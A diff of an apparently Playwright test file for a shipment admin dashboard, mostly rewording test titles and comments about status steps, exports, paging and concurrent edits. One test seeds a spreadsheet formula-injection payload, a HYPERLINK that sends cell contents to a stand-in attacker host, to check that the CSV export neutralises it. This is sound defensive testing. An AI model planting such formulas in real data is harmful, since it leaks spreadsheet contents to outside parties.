@@ -23,15 +23,15 @@ interface Step {
   from: string;
   offered: string[];
   to: string;
-  /** The city that is chosen, where none is suggested. */
+  /** The city to choose where none is suggested. */
   chosen?: string;
-  /** The city that is in the field when it is saved; left out where a step has none. */
+  /** The expected city when saving; omitted for steps without a place. */
   city?: string;
   note?: string;
   mail: string;
 }
 
-/** The way of a shipment from Calgary to Edmonton that arrives. */
+/** Steps of a successful shipment from Calgary to Edmonton. */
 const way: Step[] = [
   { from: REQUESTED, offered: [CONFIRMED, CANCELLED], to: CONFIRMED, mail: 'cargo-confirmed' },
   { from: CONFIRMED, offered: [PICKED_UP, CANCELLED], to: PICKED_UP, city: 'Calgary', mail: 'cargo-picked-up' },
@@ -67,7 +67,7 @@ const firstOf = (days: string[]) => {
   return day;
 };
 
-// The office reads its language, the customer gets mails in another one.
+// The admin and the customer use different languages.
 for (const [language, spoken] of [
   ['en', 'ar'],
   ['ar', 'ti'],
@@ -75,7 +75,7 @@ for (const [language, spoken] of [
   test.describe(() => {
     test.use({ as: 'admin', language });
 
-    test(`a shipment from request to delivery, in ${language}, for a customer who reads ${spoken}`, async ({
+    test(`moves a shipment from request to delivery, in ${language}, for a customer who reads ${spoken}`, async ({
       page,
     }) => {
       const customer = await newCustomer(page.request, spoken);
@@ -101,7 +101,7 @@ for (const [language, spoken] of [
         await fitsPhone(page, 'the list of shipments');
       });
 
-      await test.step('open it and read all of it', async () => {
+      await test.step('open it and read its details', async () => {
         await desk.links.click();
         await expect(article.getByRole('heading', { name: shipment.trackingNumber })).toBeFocused();
         await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
@@ -152,7 +152,7 @@ for (const [language, spoken] of [
         });
       }
 
-      await test.step('after the delivery: its proof for office and customer, and nothing of it in public', async () => {
+      await test.step('office and customer see the proof of delivery, the public does not', async () => {
         await expect(article.getByText(t('admin:shipment.ended'))).toBeVisible();
         await page.reload();
         await desk.stands(DELIVERED);
@@ -174,10 +174,10 @@ for (const [language, spoken] of [
   });
 }
 
-test.describe('the office', () => {
+test.describe('the shipments list', () => {
   test.use({ as: 'admin' });
 
-  test('on the road a new place is noted, and a failure ends the way', async ({ page }) => {
+  test('records a new location on the road, and a failed delivery ends the shipment', async ({ page }) => {
     const customer = await newCustomer(page.request);
     const { id, etag, trackingNumber } = await bookCargo(customer, {
       language: 'en',
@@ -192,7 +192,7 @@ test.describe('the office', () => {
     await page.goto(`/admin?tab=shipments&open=${id}`);
     await desk.stands(PICKED_UP);
     await desk.choose(PICKED_UP);
-    // Where it was picked up is no new place.
+    // The pickup city is not offered as a new location.
     await expect(article.getByLabel(t('admin:step.location')).locator('option[value=Calgary]')).toHaveCount(0);
     await article.getByLabel(t('admin:step.location')).selectOption('Airdrie');
     await desk.save(PICKED_UP);
@@ -207,7 +207,7 @@ test.describe('the office', () => {
     await stepMail(customer, 'en', 'cargo-failed', trackingNumber);
   });
 
-  test('search, filters, order, pages and the file of a long list', async ({ page }) => {
+  test('searches, filters, sorts, pages and exports a long list', async ({ page }) => {
     const customer = await newCustomer(page.request);
     const days = (await freeDays(customer)).slice(0, 11);
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
@@ -227,7 +227,7 @@ test.describe('the office', () => {
     await page.goto('/admin?tab=shipments');
     await desk.search(customer.email);
 
-    await test.step('two pages, the newest first, and back leads to the first', async () => {
+    await test.step('two pages, newest first, and Back leads to the first', async () => {
       await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
       await page.getByRole('button', { name: t('common:pager.next') }).click();
       await expect.poll(desk.ids).toEqual(newestFirst.slice(20));
@@ -237,7 +237,7 @@ test.describe('the office', () => {
       await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
     });
 
-    await test.step('the earliest pickup first, over both pages', async () => {
+    await test.step('sort by the earliest pickup, across both pages', async () => {
       const order = page.getByLabel(t('admin:desk.order'));
       await order.selectOption('SHIPMENT_ORDER_PICKUP_SOONEST');
       const soonest = [...pickupOf.values()].sort();
@@ -245,7 +245,7 @@ test.describe('the office', () => {
       await expect.poll(pickups).toEqual(soonest.slice(0, 20));
       await page.getByRole('button', { name: t('common:pager.next') }).click();
       await expect.poll(pickups).toEqual(soonest.slice(20));
-      // Another order begins with its first page.
+      // A new sort order starts at the first page.
       await order.selectOption('SHIPMENT_ORDER_OLDEST');
       await expect.poll(desk.ids).toEqual(newestFirst.toReversed().slice(0, 20));
     });
@@ -262,7 +262,7 @@ test.describe('the office', () => {
       await desk.search(customer.email);
     });
 
-    await test.step('one status, which the file holds too, without a formula in it', async () => {
+    await test.step('filter by status; the export follows, without formulas', async () => {
       const admin = await callerOf(page.request, demoAccount('admin'));
       await admin.patch(`/v1/cargo/shipments/${single.id}`, { status: CONFIRMED, etag: single.etag });
       const status = page.getByLabel(t('admin:desk.status'));
@@ -275,7 +275,7 @@ test.describe('the office', () => {
       expect(confirmed.column('cargo_description')).toEqual([`'${formula}`]);
       expect(confirmed.column('delivery_contact_phone')).toEqual(["'+1 780 555 0100"]);
 
-      // The whole list, also what is on the second page, in its order.
+      // The export holds the whole list in its order, including the second page.
       await status.selectOption('SHIPMENT_STATUS_UNSPECIFIED');
       await expect(desk.links).toHaveCount(20);
       const all = await desk.exported();
@@ -283,7 +283,7 @@ test.describe('the office', () => {
       expect(new Set(all.column('user_email'))).toEqual(new Set([customer.email]));
     });
 
-    await test.step('a search that finds nothing says so and can be cleared', async () => {
+    await test.step('a search without results shows a message and can be cleared', async () => {
       await desk.search(`nobody.${customer.email}`);
       await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
       await axe(page, 'a list in which nothing fits');
@@ -295,10 +295,7 @@ test.describe('the office', () => {
     });
   });
 
-  test('somebody else was faster: the fresh shipment, what was typed, and no second change', async ({
-    page,
-    browser,
-  }) => {
+  test('shows the fresh shipment after a concurrent change and keeps the input', async ({ page, browser }) => {
     const customer = await newCustomer(page.request);
     const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
     const at = `/admin?tab=shipments&open=${shipment.id}`;
@@ -310,7 +307,7 @@ test.describe('the office', () => {
 
     const second = await anotherBrowser(browser, 'admin');
     const other = adminTable(second.page, 'en', 'shipments');
-    await test.step('a second window confirms it meanwhile', async () => {
+    await test.step('a second window confirms it in the meantime', async () => {
       await other.page.goto(at);
       await other.stands(REQUESTED);
       await other.choose(CONFIRMED);
@@ -318,7 +315,7 @@ test.describe('the office', () => {
     });
     await second.done();
 
-    await test.step('the first one is told and sees how it stands now', async () => {
+    await test.step('the first window is notified and shows the current status', async () => {
       await desk.choose(CANCELLED);
       await article.getByRole('button', { name: t('admin:step.save') }).click();
       await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
@@ -331,7 +328,7 @@ test.describe('the office', () => {
       await fitsPhone(page, 'a shipment that somebody else has changed');
     });
 
-    await test.step('with the fresh shipment the next step is saved', async () => {
+    await test.step('the next step is saved on the fresh shipment', async () => {
       await desk.choose(PICKED_UP);
       await desk.save(PICKED_UP);
       await expect(desk.history.nth(2)).toContainText('Van 3 comes');
@@ -344,7 +341,7 @@ test.describe('the office', () => {
 test.describe('a client', () => {
   test.use({ as: 'client' });
 
-  test('sees nothing of it', async ({ page }) => {
+  test('cannot open the dashboard', async ({ page }) => {
     const customer = await newCustomer(page.request);
     const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
     const at = `/v1/cargo/shipments/${shipment.id}`;
